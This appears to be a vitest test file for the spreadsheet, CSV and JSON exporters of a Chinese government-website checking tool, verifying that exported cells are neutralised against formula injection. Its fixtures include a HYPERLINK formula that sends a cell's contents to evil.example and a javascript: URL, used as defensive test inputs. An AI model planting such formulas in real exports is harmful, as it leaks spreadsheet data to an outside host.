/** The 整改清单 writers, read back the way a user's spreadsheet program would. */
import { describe, expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import { defaultRuleTitle, HEADERS, neutralise, toCsv, toJson, writeXlsx, type ExportFinding } from '../../../utils/export';

const T = new Date(2024, 2, 1, 15, 30).getTime();
const rows: ExportFinding[] = [
  {
    ruleId: 'catalog/empty-field', level: 'error', certainty: 'certain', message: '目录字段“文号”为空', excerpt: '文号：', url: 'http://www.xx.gov.cn/zwgk/a.html',
    suggestion: '补充文号', site: 'http://www.xx.gov.cn', column: '通知公告', pageTitle: '关于印发某某办法的通知', firstSeen: T, lastSeen: T, status: 'open',
  },
  {
    ruleId: 'date/malformed-text', level: 'warn', certainty: 'suspected', message: '日期写法错误', excerpt: '=1+1', url: 'http://www.xx.gov.cn/zwgk/b.html',
    site: 'http://www.xx.gov.cn', column: null, pageTitle: '-减税 "降费", 政策', firstSeen: T, lastSeen: T, status: 'false-positive', note: '@张三 已确认',
  },
  {
    ruleId: 'text/typo', level: 'info', message: '疑似错别字', excerpt: '=HYPERLINK("http://evil.example/?x="&A1,"点我")', url: 'javascript:alert(1)',
    column: '政策解读', pageTitle: '\t制表符开头', status: 'ignored', note: '+备注\r\n第二行',
  },
];

describe('neutralise', () => {
  it('prefixes an apostrophe before every formula trigger, nothing else', () => {
    for (const s of ['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx']) expect(neutralise(s)).toBe("'" + s);
    for (const s of ['', '正文', '1=1', "'=1", ' =1']) expect(neutralise(s)).toBe(s);
  });
});

describe('writeXlsx', () => {
  it('writes the Chinese headers, one row per finding, links, frozen header, autofilter, no formula', async () => {
    const bytes = await writeXlsx(rows);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(Buffer.from(bytes) as never);
    const ws = wb.getWorksheet('问题清单')!;
    expect((ws.getRow(1).values as unknown[]).slice(1)).toEqual([...HEADERS]);
    expect(ws.rowCount).toBe(4);
    expect(ws.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(ws.autoFilter).toBeTruthy();
    const r2 = ws.getRow(2);
    expect(r2.getCell(1).value).toBe(1);
    expect(r2.getCell(2).value).toBe('http://www.xx.gov.cn');
    expect(r2.getCell(3).value).toBe('通知公告');
    expect(r2.getCell(5).value).toEqual({ text: 'http://www.xx.gov.cn/zwgk/a.html', hyperlink: 'http://www.xx.gov.cn/zwgk/a.html' });
    expect(r2.getCell(6).value).toBe(defaultRuleTitle('catalog/empty-field'));
    expect(defaultRuleTitle('catalog/empty-field')).toMatch(/[\u4e00-\u9fff]/); // the rule's Chinese title
    expect(r2.getCell(7).value).toBe('严重');
    expect(r2.getCell(11).value).toBe('2024-03-01 15:30');
    expect(r2.getCell(13).value).toBe('待整改');
    const r3 = ws.getRow(3);
    expect(r3.getCell(9).value).toBe("'=1+1");
    expect(r3.getCell(9).type).toBe(ExcelJS.ValueType.String);
    expect(r3.getCell(4).value).toBe('\'-减税 "降费", 政策');
    expect(r3.getCell(6).value).toBe(defaultRuleTitle('date/malformed-text') + '（疑似）');
    expect(r3.getCell(7).value).toBe('一般');
    expect(r3.getCell(13).value).toBe('误报');
    expect(r3.getCell(14).value).toBe("'@张三 已确认");
    const r4 = ws.getRow(4);
    expect(r4.getCell(9).value).toBe('\'=HYPERLINK("http://evil.example/?x="&A1,"点我")');
    expect(r4.getCell(9).formula).toBeUndefined();
    expect(r4.getCell(5).value).toBe('javascript:alert(1)'); // never a link
    expect(r4.getCell(2).value ?? '').toBe('');
    expect(r4.getCell(4).value).toBe("'\t制表符开头");
    expect(r4.getCell(13).value).toBe('已忽略');
    // No cell of the workbook is a formula.
    wb.eachSheet((s) => s.eachRow((row) => row.eachCell((c) => expect(c.type).not.toBe(ExcelJS.ValueType.Formula))));
    // Summary sheet by column and rule.
    const sum = wb.getWorksheet('汇总')!;
    const texts = sum.getSheetValues().flat().filter((x) => typeof x === 'string');
    expect(texts).toEqual(expect.arrayContaining(['按网站和栏目', '按问题类型', '通知公告', '（未识别栏目）', 'catalog/empty-field']));
  });
});

describe('toCsv', () => {
  it('UTF-8 BOM, CRLF, quoted fields, neutralised cells', () => {
    const csv = toCsv(rows);
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    const body = csv.slice(1);
    expect(body.split('\r\n')[0]).toBe(HEADERS.join(','));
    expect(body.endsWith('\r\n')).toBe(true);
    expect(body).toContain(',\'=1+1,');
    expect(body).toContain('"\'-减税 ""降费"", 政策"');
    expect(body).toContain('"\'=HYPERLINK(""http://evil.example/?x=""&A1,""点我"")"');
    expect(body).toContain('"\'+备注\r\n第二行"');
    // No field starts with a formula trigger once unquoted.
    const fields = body.match(/(?<=^|,)("(?:[^"]|"")*"|[^,\r\n]*)/gm)!.map((f) => f.replace(/^"|"$/g, ''));
    for (const f of fields) expect(f).not.toMatch(/^[=+\-@\t\r]/);
  });
});

describe('toJson', () => {
  it('is lossless', () => {
    const parsed = JSON.parse(toJson(rows, { filter: { status: 'open' } }));
    expect(parsed).toMatchObject({ format: 'govlint-findings', version: 1, filter: { status: 'open' } });
    expect(parsed.findings).toEqual(rows);
  });
});

describe('the 整改清单 cover and what it lists', () => {
  it('leaves 提示 out unless asked', async () => {
    const { forExport } = await import('../../../utils/export');
    const list = [{ level: 'warn' }, { level: 'info' }, { level: 'error' }] as ExportFinding[];
    expect(forExport(list, false).map((f) => f.level)).toEqual(['warn', 'error']);
    expect(forExport(list, true).length).toBe(3);
  });
  it('puts a 封面 first with 单位, 检查日期, 检查人, 范围 and the counts', async () => {
    const ExcelJS = (await import('exceljs')).default;
    const f = (level: ExportFinding['level'], url: string): ExportFinding => ({ ruleId: 'text/typo', level, message: 'm', excerpt: 'e', url, site: new URL(url).origin });
    const bytes = await writeXlsx([f('error', 'http://www.a.gov.cn/1.html'), f('warn', 'http://www.b.gov.cn/2.html')], { cover: { checkDate: '2026-12-01', scope: '全部问题', infoExcluded: true } });
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(bytes as unknown as ArrayBuffer);
    expect(wb.worksheets.map((w) => w.name)).toEqual(['封面', '问题清单', '汇总']);
    const rows = new Map<string, unknown>();
    wb.getWorksheet('封面')!.eachRow((r) => rows.set(String(r.getCell(1).value), r.getCell(2).value));
    expect(rows.get('单位')).toBe('www.a.gov.cn、www.b.gov.cn');
    expect(rows.get('检查日期')).toBe('2026-12-01');
    expect(rows.get('范围')).toBe('全部问题');
    expect(rows.get('问题数')).toBe('2 条：严重 1，一般 1，提示 0（提示类问题未列入）');
  });
});
